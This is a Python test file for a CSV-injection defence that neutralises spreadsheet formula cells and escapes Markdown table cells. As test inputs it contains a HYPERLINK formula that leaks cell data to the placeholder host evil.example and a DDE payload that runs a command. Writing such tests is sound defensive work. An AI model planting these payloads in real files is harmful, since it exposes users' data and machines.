"""Cells no spreadsheet runs as a formula, read back exactly (lyra.compliance.csvsafe)."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lyra.compliance.csvsafe import markdown_cell, safe_cell, safe_row, unneutralise

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        "=1+1",
        "+A1",
        "-A1",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
        "-",
        "=cmd|' /C calc'!A0",
    ],
)
def test_formula_like_cells_get_a_leading_quote(text: str) -> None:
    """OWASP "CSV Injection": a cell starting = + - @ (tab, CR) is prefixed with ``'``."""
    assert safe_cell(text) == "'" + text
    assert unneutralise(safe_cell(text)) == text


@pytest.mark.parametrize("text", ["-12.50", "+3", "-0", "1e-8", "-1.5E+3", "12.50", "BTC", ""])
def test_plain_numbers_and_plain_text_are_left_alone(text: str) -> None:
    """A loss stays a negative number a spreadsheet can add up."""
    assert safe_cell(text) == text
    assert unneutralise(text) == text


def test_values_of_any_type_become_text() -> None:
    assert safe_row([None, 5, -5, "=x", "a|b"]) == ["", "5", "-5", "'=x", "a|b"]


def test_a_quote_already_in_front_of_a_formula_round_trips() -> None:
    """``'=x`` written raw would read back as ``=x``: it gets one ``'`` more."""
    assert safe_cell("'=x") == "''=x"
    assert unneutralise("''=x") == "'=x"
    assert safe_cell("'hello") == "'hello"  # no formula behind the quote: unchanged
    assert unneutralise("'hello") == "'hello"
    assert unneutralise("'-12.50") == "'-12.50"  # safe_cell never adds a quote to a number


@given(st.text() | st.from_regex(r"'*[=+\-@\t\r][\d.eE+\-=a]*", fullmatch=True))
def test_every_text_round_trips_and_none_starts_a_formula(text: str) -> None:
    """The ledger reads back exactly what was written, and only a signed plain number may
    start with a formula character."""
    cell = safe_cell(text)
    assert unneutralise(cell) == text
    if cell.startswith(FORMULA_STARTS):
        assert cell == text
        assert re.fullmatch(r"[+-]\d+(\.\d+)?([eE][+-]?\d+)?", cell, re.ASCII)


def test_markdown_cells_escape_the_pipe_and_flatten_lines() -> None:
    """In a Markdown table ``|`` ends a cell and a newline the row."""
    assert markdown_cell("a|b") == "a\\|b"
    assert markdown_cell("one\ntwo\r\nthree") == "one two  three"
    assert markdown_cell("back\\|slash") == "back\\\\\\|slash"
    assert markdown_cell(None) == ""
    row = f"| {markdown_cell('=x|y')} | {markdown_cell(12)} |"
    assert row.count("|") - row.count("\\|") == 3
